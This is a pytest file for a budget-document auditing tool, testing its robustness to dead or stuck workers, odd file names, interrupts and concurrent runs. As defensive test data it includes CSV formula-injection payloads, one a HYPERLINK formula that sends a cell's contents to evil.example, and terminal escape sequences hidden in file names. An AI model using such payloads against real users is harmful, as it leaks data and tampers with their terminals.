"""Single faults never cost the batch: dead and stuck workers, odd file names, formula cells,
interrupted and concurrent runs, a config planted among the documents, skipped files.

Every test runs on small crafted inputs with a bounded time (and, where a worker is involved,
asserts it).
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

import auditor.batch as batch
import auditor.pipeline as pipeline
from auditor.cli import main

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
SEED = EXAMPLES / "001_ac4016ef80131bfd.txt"  # the smallest seed (civil affairs / industry)
OTHER = EXAMPLES / "004_fea291bfd100ca97.txt"  # environment / publicity


def _cli(*args, cwd: Path | None = None):
    old = Path.cwd()
    if cwd is not None:
        os.chdir(cwd)
    try:
        return CliRunner().invoke(main, list(args), catch_exceptions=False)
    finally:
        os.chdir(old)


def _audit(*args: str, cwd: Path | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "auditor", *args], capture_output=True, text=True, cwd=cwd, timeout=timeout
    )


# --------------------------------------------------------------------------- workers


def _square_or_die(x: int) -> int:
    if x == 7:
        os.kill(os.getpid(), signal.SIGKILL)  # what the out-of-memory killer does
    return x * x


def _square_or_hang(x: int) -> int:
    if x == 3:
        time.sleep(60)  # Python code: the in-worker alarm interrupts it
    return x * x


def _square_or_stall(x: int) -> int:
    if x == 3:
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})  # deaf to the alarm, as C code is
        time.sleep(60)
    return x * x


def _fault(item, reason):
    return ("failed", item, reason)


def test_a_worker_killed_fails_only_its_item_and_the_run_goes_on():
    start = time.monotonic()
    results = list(pipeline.ordered_map(_square_or_die, range(40), jobs=2, fault=_fault))
    assert time.monotonic() - start < 30
    assert results[7][:2] == ("failed", 7) and "工作进程意外退出" in results[7][2]
    assert [r for i, r in enumerate(results) if i != 7] == [i * i for i in range(40) if i != 7]


def test_a_worker_killed_from_outside_costs_nothing(tmp_path):
    """Items in flight when a worker is killed by someone else are run again and succeed."""
    flag = tmp_path / "killed"

    with pipeline.Workers(2) as workers:
        items = iter(range(30))
        results = []
        for result in pipeline.ordered_map(_slow_square, items, workers=workers, size=30, fault=_fault):
            results.append(result)
            if len(results) == 3 and not flag.exists():
                victim = next(iter(workers.pool._processes))
                os.kill(victim, signal.SIGKILL)
                flag.touch()
    assert results == [i * i for i in range(30)]


def _slow_square(x: int) -> int:
    time.sleep(0.05)
    return x * x


def test_a_stuck_item_is_stopped_at_the_time_limit():
    start = time.monotonic()
    results = list(pipeline.ordered_map(_square_or_hang, range(8), jobs=2, fault=_fault, time_limit=1))
    assert time.monotonic() - start < 15
    assert results[3][:2] == ("failed", 3) and "处理超时" in results[3][2]
    assert [r for i, r in enumerate(results) if i != 3] == [i * i for i in range(8) if i != 3]


def test_an_item_deaf_to_the_alarm_is_stopped_by_the_main_process(monkeypatch):
    monkeypatch.setattr(pipeline, "GRACE_SECONDS", 1.0)
    start = time.monotonic()
    results = list(pipeline.ordered_map(_square_or_stall, range(8), jobs=2, fault=_fault, time_limit=1))
    assert time.monotonic() - start < 20
    assert results[3][:2] == ("failed", 3) and "处理超时" in results[3][2]
    assert [r for i, r in enumerate(results) if i != 3] == [i * i for i in range(8) if i != 3]


@pytest.mark.parametrize("fails", [_square_or_die, _square_or_stall])
def test_items_sent_in_chunks_still_fail_one_by_one(monkeypatch, fails):
    """200 items go to the workers eight at a time; the one that kills or hangs its worker fails
    alone, the others of its chunk and of the chunks in flight come back."""
    monkeypatch.setattr(pipeline, "GRACE_SECONDS", 1.0)
    start = time.monotonic()
    results = list(pipeline.ordered_map(fails, range(200), jobs=2, fault=_fault, time_limit=1))
    assert time.monotonic() - start < 40
    bad = 7 if fails is _square_or_die else 3
    assert results[bad][:2] == ("failed", bad)
    assert [r for i, r in enumerate(results) if i != bad] == [i * i for i in range(200) if i != bad]


def test_the_time_limit_holds_without_a_pool_too():
    results = list(pipeline.ordered_map(_square_or_hang, range(5), jobs=1, fault=_fault, time_limit=1))
    assert results[3][0] == "failed" and results[4] == 16


_real_stage = batch.checked_stage


def _stage_killing_on(item, config=None):
    if item[1].name.startswith("bomb"):
        os.kill(os.getpid(), signal.SIGKILL)
    return _real_stage(item, config)


def test_score_reports_the_document_whose_worker_died(tmp_path, monkeypatch):
    docs = tmp_path / "docs"
    docs.mkdir()
    shutil.copy(SEED, docs / "a.txt")
    shutil.copy(SEED, docs / "bomb.txt")
    shutil.copy(OTHER, docs / "c.txt")
    monkeypatch.setattr(batch, "checked_stage", _stage_killing_on)  # the workers are forked: they see it
    failures = []
    run = batch.Run(pipeline.collect([docs]), jobs=2, on_loaded=lambda c: c.error and failures.append(c.error))
    lines, written = run.score(tmp_path / "out")
    assert [e.path for e in failures] == ["bomb.txt"]
    assert "工作进程意外退出" in failures[0].reason
    assert len(lines) == 2 and (tmp_path / "out" / "index.html").is_file()


# --------------------------------------------------------------------------- names


def test_long_and_non_utf8_file_names(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    long_name = "河北省秦皇岛市海港区教育局关于二〇二四年度部门预算项目支出绩效目标表公开情况的说明及附件材料汇编" * 2
    long_name = long_name[:79] + ".txt"  # 79 Chinese characters: 241 bytes, legal on disk
    shutil.copy(SEED, docs / long_name)
    gbk = os.fsdecode("卫生健康委员会".encode("gbk") + b".txt")  # a name from a zip made on Windows
    shutil.copy(OTHER, os.path.join(docs, gbk))
    out = tmp_path / "out"
    result = _audit("score", str(docs), "-o", str(out), "-q")
    assert result.returncode == 0, result.stderr
    escaped = "\\xce\\xc0"  # the first GBK bytes of 卫, shown escaped
    assert all(len(os.fsencode(name)) <= 255 for name in os.listdir(out))
    scores = json.loads((out / "scores.json").read_text(encoding="utf-8"))
    assert {d["source"][:8] for d in scores["departments"]} == {long_name[:8], escaped}
    assert escaped in (out / "findings.csv").read_text(encoding="utf-8-sig")
    result = _audit(
        "check", str(docs), "--format", "jsonl", "-o", str(tmp_path / "f.jsonl"), "-q", "--fail-on", "never"
    )
    written = (tmp_path / "f.jsonl").read_text(encoding="utf-8")
    assert result.returncode == 0 and json.dumps(escaped)[1:-1] in written
    result = _audit("extract", str(docs), "-o", str(tmp_path / "rows.csv"), "-q")
    assert result.returncode == 0 and escaped in (tmp_path / "rows.csv").read_text(encoding="utf-8")


def test_output_names_are_bounded_in_bytes_and_unique():
    from auditor.report.html import safe_name

    taken = {"index.html"}
    name = "农业农村局" * 40  # 200 characters of department name read from the document
    first = safe_name("130303", name, "x.txt", taken)
    second = safe_name("130303", name, "x.txt", taken)
    third = safe_name("ABC", "", "x.txt", taken)
    fourth = safe_name("abc", "", "x.txt", taken)  # the same file on a case-blind file system
    assert first != second and third != fourth
    assert all(len(n.encode("utf-8")) <= 200 for n in (first, second, third, fourth))


def test_terminal_escapes_in_names_and_text_never_reach_the_terminal(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    text = SEED.read_text(encoding="utf-8").replace("工业和信息化局", "工业\x1b]0;pwned\x07和信息化局\x1b[2J", 1)
    (docs / "a\x1b[2Jb.txt").write_text(text, encoding="utf-8")
    (docs / "bad\x1b[31m.txt").write_bytes(b"")  # empty: an error line naming it
    result = _audit("check", str(docs), "--fail-on", "never")
    assert "\x1b" not in result.stdout and "\x1b" not in result.stderr
    assert "bad\\x1b[31m.txt" in result.stderr


# --------------------------------------------------------------------------- formulas in CSV


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1"]


def _formula_document(tmp_path: Path) -> Path:
    lines = SEED.read_text(encoding="utf-8").split("\n")
    rows = [i for i, line in enumerate(lines) if "\t数量指标\t" in line or "\t质量指标\t" in line]
    for formula, i in zip(FORMULAS, rows, strict=False):
        cells = lines[i].split("\t")
        cells[2] = formula.replace("\t", " ") if formula.startswith("\t") else formula
        cells[3] = formula
        lines[i] = "\t".join(cells)
    path = tmp_path / "formulas.txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def _formulas_in(csv_path: Path, tmp_path: Path) -> list[str]:
    """Load the CSV into a workbook with openpyxl, as a spreadsheet program would, save and reopen
    it: every cell it takes for a formula."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            sheet.append(row)
    book.save(tmp_path / "opened.xlsx")
    reopened = openpyxl.load_workbook(tmp_path / "opened.xlsx")
    return [c.value for row in reopened.active.iter_rows() for c in row if c.data_type == "f"]


def test_no_csv_the_tool_writes_holds_a_formula(tmp_path):
    doc = _formula_document(tmp_path)
    rows_csv, findings_csv, out = tmp_path / "rows.csv", tmp_path / "findings.csv", tmp_path / "out"
    assert _cli("extract", str(doc), "-o", str(rows_csv), "-q").exit_code == 0
    _cli("check", str(doc), "--format", "csv", "-o", str(findings_csv), "-q", "--fail-on", "never")
    assert _cli("score", str(doc), "-o", str(out), "-q").exit_code == 0
    names = [r["name"] for r in csv.DictReader(rows_csv.open(encoding="utf-8", newline=""))]
    assert "'" + FORMULAS[0] in names and "'+1+2" in names  # kept, shown as text
    for path in (rows_csv, findings_csv, out / "findings.csv"):
        assert _formulas_in(path, tmp_path) == [], path


# --------------------------------------------------------------------------- interrupts and concurrent runs


def _corpus(tmp_path: Path, copies: int) -> Path:
    docs = tmp_path / "docs"
    docs.mkdir()
    for i in range(copies):
        shutil.copy(SEED if i % 2 else OTHER, docs / f"d{i:03d}.txt")
    return docs


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupt_while_writing_leaves_the_previous_reports_and_no_temporary_files(tmp_path, signum):
    docs = _corpus(tmp_path, 48)  # enough departments that writing lasts well past the first scorecard, even under load
    out = tmp_path / "out"
    assert _audit("score", str(docs), "-o", str(out), "-q", "--jobs", "2").returncode == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    (docs / "d000.txt").write_text(SEED.read_text(encoding="utf-8"), encoding="utf-8")  # the next run differs
    process = subprocess.Popen(
        [sys.executable, "-m", "auditor", "score", str(docs), "-o", str(out), "-q", "--jobs", "2"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:  # wait for the first scorecard of the new run
        stages = [p for p in tmp_path.glob(".out.audit-tmp-*") if any(p.glob("*.html"))]
        if stages:
            break
        time.sleep(0.005)
    assert stages, "the run never started writing"
    os.killpg(process.pid, signum) if signum == signal.SIGINT else process.send_signal(signum)
    _, stderr = process.communicate(timeout=30)
    assert process.returncode == 130
    assert "Traceback" not in stderr and len(stderr.strip().splitlines()) == 1 and "已中断" in stderr
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["docs", "out"]


def test_a_second_run_into_the_same_folder_is_refused(tmp_path):
    from auditor.report.publish import Publication

    out = tmp_path / "out"
    with Publication(out):
        start = time.monotonic()
        result = _cli("score", str(SEED), "-o", str(out), "-q")
        assert time.monotonic() - start < 10
    assert result.exit_code == 2 and "另一个 audit 正在向" in result.output
    assert not out.exists()


def test_a_run_replaces_only_what_the_earlier_run_wrote(tmp_path):
    out = tmp_path / "out"
    docs = tmp_path / "docs"
    docs.mkdir()
    shutil.copy(SEED, docs / "a.txt")
    shutil.copy(OTHER, docs / "b.txt")
    assert _cli("score", str(docs), "-o", str(out), "-q").exit_code == 0
    first = sorted(p.name for p in out.iterdir())
    (out / "说明.docx").write_bytes(b"the reviewer's own file")
    (docs / "b.txt").unlink()
    assert _cli("score", str(docs), "-o", str(out), "-q").exit_code == 0
    second = sorted(p.name for p in out.iterdir())
    assert len(second) == len(first) - 1  # one scorecard and its letter fewer, the reviewer's file kept
    assert not [n for n in set(first) - set(second) if not n.startswith(("434-", "471-"))]
    assert (out / "说明.docx").read_bytes() == b"the reviewer's own file"
    index = (out / "index.html").read_text(encoding="utf-8")
    cards = [n for n in second if n.endswith(".html") and n != "index.html"]
    assert len(cards) == 1 and cards[0] in index


def test_an_unwritable_output_folder_is_refused_before_reading(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    start = time.monotonic()
    result = _cli("score", str(SEED), "-o", str(blocker / "out"), "-q")
    assert result.exit_code == 2 and "无法写入" in result.output and "Traceback" not in result.output
    assert time.monotonic() - start < 10


# --------------------------------------------------------------------------- config and skipped files


def test_a_config_among_the_documents_is_not_used(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    shutil.copy(SEED, docs / "a.txt")
    from auditor.checks.catalog import load_rules

    codes = ", ".join(f'"{rule.code}"' for rule in load_rules())
    (docs / "audit.toml").write_text(f"[rules]\ndisable = [{codes}]\n", encoding="utf-8")
    work = tmp_path / "work"
    work.mkdir()
    result = _audit("check", str(docs), "--format", "jsonl", "--fail-on", "never", cwd=work)
    assert result.stdout.strip(), "every rule still runs"
    assert "默认配置" in result.stderr and "未使用被审核文件夹中的配置" in result.stderr
    shutil.copy(docs / "audit.toml", work / "audit.toml")  # chosen: in the working directory
    result = _audit("check", str(docs), "--format", "jsonl", "--fail-on", "never", cwd=work)
    assert not result.stdout.strip() and str(work / "audit.toml") in result.stderr


def test_unreadable_folders_outside_links_and_special_files_are_reported(tmp_path, monkeypatch):
    docs = tmp_path / "docs"
    (docs / "locked").mkdir(parents=True)
    shutil.copy(SEED, docs / "a.txt")
    outside = tmp_path / "outside.txt"
    shutil.copy(OTHER, outside)
    (docs / "link.txt").symlink_to(outside)
    os.mkfifo(docs / "pipe.txt")
    real_scandir = os.scandir

    def scandir(path):
        if str(path).endswith("locked"):  # the test may run as root, who reads everything
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(pipeline.os, "scandir", scandir)
    skipped: list = []
    assert pipeline.collect([docs], skipped) == [docs / "a.txt"]
    reasons = {e.path.rsplit("/", 1)[-1]: e.reason for e in skipped}
    assert "无法读取文件夹" in reasons["locked"]
    assert "输入文件夹之外" in reasons["link.txt"]
    assert "特殊文件" in reasons["pipe.txt"]
    monkeypatch.undo()
    result = _audit("extract", str(docs), "-o", str(tmp_path / "rows.csv"), timeout=60)
    assert result.returncode == 3 and "pipe.txt" in result.stderr and "link.txt" in result.stderr
